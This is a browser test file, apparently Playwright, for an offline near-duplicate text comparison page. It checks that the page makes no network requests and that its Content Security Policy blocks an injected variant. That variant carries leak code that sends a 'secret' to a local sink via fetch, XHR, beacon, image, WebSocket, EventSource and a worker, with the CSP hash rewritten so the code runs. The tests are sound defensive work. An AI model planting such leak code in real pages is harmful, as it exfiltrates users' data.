// The page's promise, checked: no network request from file:// or from
// http://127.0.0.1, and a variant that tries to leak is stopped by the CSP.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, test } from 'node:test';
import { artifacts, compare, launch, openPage, pagePath, pageUrl, serve, verify, watchNetwork } from './harness.mjs';

const html = readFileSync(pagePath, 'utf8');
const A = 'The quick brown fox jumps over the lazy dog while the cat sleeps on the warm mat';
const B = 'The quick brown fox jumped over the lazy dog while the cat slept on the warm mat';
let browser;

before(async () => {
  browser = await launch();
});
after(() => browser.close());

/** Uses the page the way a person would, so that every code path that could fetch runs. */
async function exercise(page) {
  const r = await compare(page, { text: A }, { text: B }, 3, 64);
  assert.equal(r.state, 'done');
  const file = await compare(page, { bytes: Buffer.from(A), name: 'a.txt' }, { text: B }, 3, 64);
  assert.equal(file.sha256, r.sha256);
  assert.match(await verify(page, r.receipt, null, null, r.sha256), /^VERIFIED/);
  const download = page.waitForEvent('download');
  await page.click('#tab-compare');
  await page.click('#download-receipt');
  await (await download).path();
  await page.click('#copy-receipt');
  await collection(page);
  return r;
}

/** The Collection tab: three files scanned, the downloads, a pair opened in Evidence and verified. */
async function collection(page) {
  await page.click('#tab-collection');
  await page.setInputFiles('#collection-files', [
    { name: 'a.txt', mimeType: 'text/plain', buffer: Buffer.from(A) },
    { name: 'b.txt', mimeType: 'text/plain', buffer: Buffer.from(B) },
    { name: 'c.txt', mimeType: 'text/plain', buffer: Buffer.from(`${A} and then some more words at the end`) },
  ]);
  await page.fill('#collection-k', '3');
  await page.click('#collection-run');
  await page.waitForFunction(() => document.getElementById('collection-result').dataset.state === 'done');
  for (const id of ['#collection-download-pairs', '#collection-download-receipts', '#collection-download-clusters']) {
    const download = page.waitForEvent('download');
    await page.click(id);
    await (await download).path();
  }
  await page.locator('#collection-map').scrollIntoViewIfNeeded();
  await page.hover('#collection-map');
  await page.evaluate(() => (document.getElementById('evidence').dataset.state = 'pending'));
  await page.click('#collection-pairs tbody tr >> nth=0');
  await page.waitForFunction(() => document.getElementById('evidence').dataset.state === 'done');
  await page.click('#evidence-verify-receipt');
  await page.click('#verify');
  await page.waitForFunction(() => /^VERIFIED/.test(document.getElementById('verify-result').textContent));
}

/** Requests other than the page itself; blob: and data: URLs are in-memory, not network. */
const external = (seen, self) => seen.filter((s) => {
  const url = s.slice(s.indexOf(': ') + 2);
  return url !== self && !url.startsWith('blob:') && !url.startsWith('data:');
});

test('zero network requests when opened from file://', async () => {
  const page = await browser.context.newPage();
  const seen = await watchNetwork(browser.context, page);
  await page.close();
  const { page: p, errors } = await openPage(browser.context);
  const seen2 = await watchNetwork(browser.context, p);
  await exercise(p);
  await p.waitForTimeout(300);
  assert.deepEqual(external([...seen, ...seen2], pageUrl), []);
  assert.deepEqual(errors, []);
  await p.close();
});

test('zero network requests when served from http://127.0.0.1', async () => {
  const server = await serve({ '/neardup.html': html });
  try {
    const page = await browser.context.newPage();
    const seen = await watchNetwork(browser.context, page);
    await page.goto(`${server.base}/neardup.html`);
    await page.waitForFunction(() => /^[0-9a-f]{64}$/.test(document.getElementById('wasm-sha256').textContent));
    await exercise(page);
    await page.waitForTimeout(300);
    // The server saw the page and nothing else (no favicon, no fetch).
    assert.deepEqual(server.log, ['/neardup.html']);
    assert.deepEqual(external(seen, `${server.base}/neardup.html`), []);
    await page.close();
  } finally {
    await server.close();
  }
});

// ---- The negative test: a variant of the page that tries to leak. ----

const b64sha = (text) => createHash('sha256').update(text).digest('base64');

/**
 * The page with `code` prepended to its main script and the CSP hash updated
 * to match, so that the injected code really runs and only the CSP's
 * network rules stand in its way. `workerCode` is prepended to the worker.
 */
function variant(code, workerCode = '', { csp = true } = {}) {
  const open = '<script>';
  const start = html.lastIndexOf(open) + open.length;
  const end = html.indexOf('</script>', start);
  const script = html.slice(start, end);
  const injected = `${code}\n${script}`;
  let out = html.slice(0, start) + injected + html.slice(end);
  out = out.replace(`'sha256-${b64sha(script)}'`, `'sha256-${b64sha(injected)}'`);
  assert.ok(out.includes(b64sha(injected)), 'the script hash was replaced');
  out = out.replace('<script type="text/plain" id="worker-src">', `<script type="text/plain" id="worker-src">${workerCode}\n`);
  if (!csp) out = out.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
  return out;
}

const leakCode = (base) => `
window.__violations = [];
document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.effectiveDirective + ' ' + e.blockedURI));
window.__leaks = {};
const note = (k) => [() => (window.__leaks[k] = 'sent'), (e) => (window.__leaks[k] = 'blocked: ' + e)];
fetch('${base}/leak-fetch?secret=1').then(...note('fetch'));
try { const x = new XMLHttpRequest(); x.open('GET', '${base}/leak-xhr'); x.onload = note('xhr')[0]; x.onerror = note('xhr')[1]; x.send(); } catch (e) { note('xhr')[1](e); }
try { navigator.sendBeacon('${base}/leak-beacon', 'x'); } catch (e) { note('beacon')[1](e); }
try { new Image().src = '${base}/leak-img'; } catch (e) {}
try { new WebSocket('${base.replace('http', 'ws')}/leak-ws'); } catch (e) { note('ws')[1](e); }
try { new EventSource('${base}/leak-sse'); } catch (e) { note('sse')[1](e); }
`;
const workerLeak = (base) => `try { fetch('${base}/leak-worker').catch(() => {}); } catch (e) {}`;

/** Loads a variant, runs a comparison, and returns what the injected code saw. */
async function runVariant(url) {
  const { page } = await openPage(browser.context, url);
  await compare(page, { text: A }, { text: B }, 3, 64);
  await page.waitForFunction(() => window.__leaks.fetch !== undefined);
  await page.waitForTimeout(500);
  const seen = await page.evaluate(() => ({ leaks: window.__leaks, violations: window.__violations }));
  await page.close();
  return seen;
}

test('a variant with an injected fetch() is blocked by the CSP (file:// and http)', async () => {
  const sink = await serve({}); // where a leak would land
  const bad = variant(leakCode(sink.base), workerLeak(sink.base));
  const path = join(artifacts, 'neardup-leaky-variant.html');
  writeFileSync(path, bad);
  const host = await serve({ '/bad.html': bad });
  try {
    for (const url of [pathToFileURL(path).href, `${host.base}/bad.html`]) {
      const { leaks, violations } = await runVariant(url);
      assert.match(leaks.fetch, /^blocked/, url);
      for (const directive of ['connect-src', 'img-src']) {
        assert.ok(violations.some((v) => v.startsWith(directive)), `${url}: no ${directive} violation in ${JSON.stringify(violations)}`);
      }
    }
    assert.deepEqual(sink.log, [], 'no request reached the server');
    assert.deepEqual(host.log, ['/bad.html']);
  } finally {
    await host.close();
    await sink.close();
  }
});

test('control: the same variant without its CSP does reach the server', async () => {
  const sink = await serve({});
  const host = await serve({ '/open.html': variant(leakCode(sink.base), workerLeak(sink.base), { csp: false }) });
  try {
    const { leaks } = await runVariant(`${host.base}/open.html`);
    assert.ok(leaks.fetch, 'the injected code ran');
    assert.ok(sink.log.includes('/leak-fetch?secret=1'), `the sink saw ${JSON.stringify(sink.log)}`);
    assert.ok(sink.log.includes('/leak-worker'), 'and the worker reached it too');
  } finally {
    await host.close();
    await sink.close();
  }
});

test('an injected inline script without a matching hash does not run', async () => {
  const sink = await serve({});
  const extra = html.replace('</body>', `<script>window.__ran = true; fetch('${sink.base}/x');</script></body>`);
  const host = await serve({ '/extra.html': extra });
  try {
    const { page } = await openPage(browser.context, `${host.base}/extra.html`);
    assert.equal(await page.evaluate(() => window.__ran), undefined);
    await page.close();
    assert.deepEqual(sink.log, []);
  } finally {
    await host.close();
    await sink.close();
  }
});
